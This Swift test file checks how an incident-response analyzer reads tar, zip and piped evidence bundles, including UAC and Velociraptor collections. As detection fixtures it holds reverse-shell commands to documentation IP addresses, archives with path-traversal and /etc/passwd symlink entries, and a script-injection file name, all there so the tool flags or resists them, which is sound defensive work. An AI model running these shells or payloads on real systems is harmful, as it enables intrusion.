import Bytes
import Evidence
import Foundation
import TestSupport
import Testing

/// Archives, standard input and several sources, as a user gives them.
struct ArchiveSourceTests {
  private let bundle: SmallBundle
  private var folder: TemporaryFolder { bundle.folder }

  init() throws { bundle = try SmallBundle() }

  private func run(_ sources: [String], _ out: String, _ more: [String] = []) throws -> ProgramResult {
    try runProgram(
      irAnalyze, ["run"] + sources + ["-o", "\(folder.path)/\(out)", "--store", "\(folder.path)/\(out)-store"] + more)
  }

  /// Findings are named by artifact, place and rule, so they are the same wherever the artifact lay.
  private func findings(_ out: String) throws -> Set<String> {
    Set(
      try bundle.contents("\(out)/findings.jsonl").split(separator: "\n").compactMap { line in
        Array(line.utf8).withView { JSONView($0)["id"]?.string }
      })
  }

  private func paths(_ out: String) throws -> [String] {
    let bytes = Array(try bundle.contents("\(out)/incident.json").utf8)
    var paths: [String] = []
    bytes.withView { text in
      _ = JSONView(text).at("custody", "artifacts")?.forEachElement { artifact in
        _ = artifact["paths"]?.forEachElement { path in
          paths.append(path.string ?? "")
          return true
        }
        return true
      }
    }
    return paths
  }

  private func shell(_ command: String) throws {
    let result = try runProgram("/bin/bash", ["-c", command], in: folder.path)
    try #require(result.status == 0, "\(result.errors)")
  }

  @Test(arguments: ["tar": "cat", "tar.gz": "gzip", "tar.bz2": "bzip2", "tar.xz": "xz -1", "tar.zst": "zstd -q"])
  func aTarredBundleGivesTheFindingsOfItsFolder(suffix: String, program: String) throws {
    _ = try bundle.run("out")
    try shell("tar -C bundle -cf - . | \(program) > case.\(suffix)")
    let result = try run(["\(folder.path)/case.\(suffix)"], "packed")
    #expect(result.status == 0 || result.status == 2, "\(result.errors)")
    #expect(try findings("packed") == findings("out") && !findings("out").isEmpty)
    let paths = try paths("packed")
    #expect(paths.contains("case.\(suffix)"))
    #expect(paths.contains("case.\(suffix)!/\(SmallBundle.capture)/netstat_output.txt"))
    // The archive inside the archive.
    #expect(paths.contains { $0.contains("root-subset.tar.gz!/") })
  }

  @Test(.enabled(if: LocalServer.hasPython, "needs python3"))
  func aZippedBundleGivesTheFindingsOfItsFolder() throws {
    _ = try bundle.run("out")
    try shell("cd bundle && python3 -c 'import shutil; shutil.make_archive(\"../case\", \"zip\", \".\")'")
    _ = try run(["\(folder.path)/case.zip"], "packed")
    #expect(try findings("packed") == findings("out"))
  }

  /// The same archive under several names, in others and beside them: opened once, and its members are told under each.
  @Test func copiesOfAnArchiveAreOpenedOnce() throws {
    try folder.write("copies/log.txt", "the same words\n")
    try shell(
      """
      cd copies && tar -cf one.tar log.txt && cp one.tar two.tar && mkdir inner && cp one.tar inner/three.tar && \
      tar -cf outer.tar inner && rm -r inner log.txt
      """)
    _ = try run(["\(folder.path)/copies"], "copied")
    let paths = try paths("copied")
    for path in ["one.tar!/log.txt", "two.tar!/log.txt", "outer.tar!/inner/three.tar!/log.txt"] {
      #expect(paths.contains(path), "\(path) is not in \(paths)")
    }
    var opened = 0
    let ledger = folder.path + "/copied-store/results"
    for name in try FileManager.default.subpathsOfDirectory(atPath: ledger) where name.hasSuffix(".json") {
      let text = try String(contentsOfFile: "\(ledger)/\(name)", encoding: .utf8)
      opened += text.contains(#""analyzer":"expand""#) ? 1 : 0
    }
    #expect(opened == 2)
  }

  @Test func standardInputIsOneArtifactByItsName() throws {
    try shell("tar -C bundle -czf case.tar.gz .")
    let command =
      "cat case.tar.gz | '\(irAnalyze)' run - --name host/case.tar.gz --case c -o piped --store piped-store"
    let status = try runProgram("/bin/bash", ["-c", "\(command); echo $?"], in: folder.path)
    #expect(["0", "2"].contains(status.output.split(separator: "\n").last))
    _ = try run(["\(folder.path)/case.tar.gz"], "packed")
    #expect(try findings("piped") == findings("packed"))
    #expect(try paths("piped").contains("host/case.tar.gz"))
    // The same again is the same case; other bytes are another's.
    let again = try runProgram("/bin/bash", ["-c", "\(command); echo $?"], in: folder.path)
    #expect(again.output == status.output)
  }

  @Test func standardInputIsToldApart() throws {
    func piped(_ text: String, _ more: [String] = []) throws -> ProgramResult {
      try runProgram(irAnalyze, ["ingest", "-", "--store", folder.path + "/s"] + more, input: text)
    }
    #expect(try piped("one").status == 0)
    let other = try piped("two")
    #expect(other.status == 64 && other.errors.contains("--case"))
    #expect(try piped("two", ["--case", "standard-input"]).status == 0)
    let nothing = try piped("", ["--case", "x"])
    #expect(nothing.status == 64 && nothing.errors.contains("is empty"))
    #expect(try piped("x", ["--name", "../x"]).status == 64)
    #expect(try runProgram(irAnalyze, ["ingest", "-", "-", "--store", folder.path + "/s"], input: "x").status == 64)
  }

  @Test func severalSourcesMakeOneCase() throws {
    let file = try folder.write("notes.txt", "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1\n")
    try shell("tar -C bundle/waf -czf waf.tar.gz .")
    let result = try run(
      [bundle.path + "/i-0b7c4e19d2f35a86e", file, folder.path + "/waf.tar.gz"], "many", ["--case", "c"])
    #expect(result.status == 0 || result.status == 2)
    let paths = try paths("many")
    #expect(paths.contains("notes.txt") && paths.contains("waf.tar.gz"))
    #expect(paths.contains { $0.hasPrefix("waf.tar.gz!/") })
    #expect(try bundle.contents("many/findings.jsonl").contains("198.51.100.7"))
  }

  @Test func aCollectionOfUACIsReadWithItsPaths() throws {
    let history = "#1795584000\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n"
    try folder.write("uac/[root]/home/admin/.bash_history", history)
    try folder.write(
      "uac/live_response/process/ps_-ef.txt", "UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 05:00 ? 00:00:01 init\n")
    try folder.write("uac/uac.log", "20261125 05:30:00 +0000 INFO UAC (Unix-like Artifacts Collector)\n")
    try shell("tar -C uac -czf uac-host-linux-20261125053000.tar.gz .")
    _ = try run(["\(folder.path)/uac-host-linux-20261125053000.tar.gz"], "uac-out")
    #expect(try paths("uac-out").contains("uac-host-linux-20261125053000.tar.gz!/[root]/home/admin/.bash_history"))
    #expect(try bundle.contents("uac-out/findings.jsonl").contains("203.0.113.66"))
  }

  @Test func aCollectionOfVelociraptorIsReadWithItsPaths() throws {
    let history = "#1795584000\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n"
    let zip = ArchiveBytes.zip([
      .init("uploads/auto/home/admin/%2Ebash_history", history),
      .init("results/Linux.Sys.Users.json", "{\"User\":\"root\"}\n"),
      .init("uploads.json", "{}\n"), .init("collection_context.json", "{}\n"),
    ])
    try folder.write("Collection-host-2026-11-25.zip", zip)
    _ = try run(["\(folder.path)/Collection-host-2026-11-25.zip"], "vr-out")
    #expect(try paths("vr-out").contains("Collection-host-2026-11-25.zip!/home/admin/.bash_history"))
    #expect(try bundle.contents("vr-out/findings.jsonl").contains("203.0.113.66"))
  }

  @Test func archivesInArchivesEndAtTheirDepth() throws {
    var archive = ArchiveBytes.tar([.init("deep.txt", "text")])
    for level in 0..<12 { archive = ArchiveBytes.tar([.init("\(level).tar", archive)]) }
    try folder.write("deep.tar", archive)
    let result = try run(["\(folder.path)/deep.tar"], "deep")
    #expect(result.status == 2)
    #expect(try bundle.contents("deep/incident.json").contains("nested deeper than 8"))
  }

  /// An archive that holds itself has no end, but only a few names.
  @Test func hostileArchivesAreCoverageNotErrors() throws {
    try folder.write(
      "hostile.tar",
      ArchiveBytes.tar([
        .init("../../../../tmp/ir-analyze-evil", "a"), .init("/etc/ir-analyze-evil", "b"),
        .init("out", type: "2", target: "/etc/passwd"), .init("dev", type: "3"), .init([0xFF, 0xFE], [0x41]),
        .init("</script><script>alert(1)</script>", "c"), .init("same", "d"), .init("same", "e"),
      ]))
    try folder.write("locked.zip", ArchiveBytes.zip([.init("data.zip", "0123456789abcdef", isEncrypted: true)]))
    try folder.write(
      "cut.tar", Array(ArchiveBytes.tar([.init("log", [UInt8](repeating: 0x61, count: 5000))]).prefix(2000)))
    let result = try run(
      ["hostile.tar", "locked.zip", "cut.tar"].map { "\(folder.path)/\($0)" }, "bad", ["--case", "c"])
    #expect(result.status == 2)
    let incident = try bundle.contents("bad/incident.json")
    #expect(incident.contains("is encrypted") && incident.contains("is read to byte"))
    #expect(!FileManager.default.fileExists(atPath: "/tmp/ir-analyze-evil"))
    #expect(!FileManager.default.fileExists(atPath: "/etc/ir-analyze-evil"))
    #expect(!(try bundle.contents("bad/report.html").contains("<script>alert(1)")))
    #expect(try runProgram(irAnalyze, ["verify", "-q", "--store", folder.path + "/bad-store"]).status == 0)
  }
}
